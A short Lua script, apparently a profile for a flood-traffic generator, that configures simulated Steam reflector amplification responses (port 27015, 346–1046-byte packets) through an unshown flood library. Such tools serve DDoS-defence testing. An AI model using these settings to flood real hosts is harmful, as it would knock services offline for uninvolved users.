-- Answers of steam reflectors that the target never asked.
local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
local flood = dofile(here .. "lib/flood.lua")

flood.amplification({ name = "steam", port = 27015, size = { 346, 1046 } })
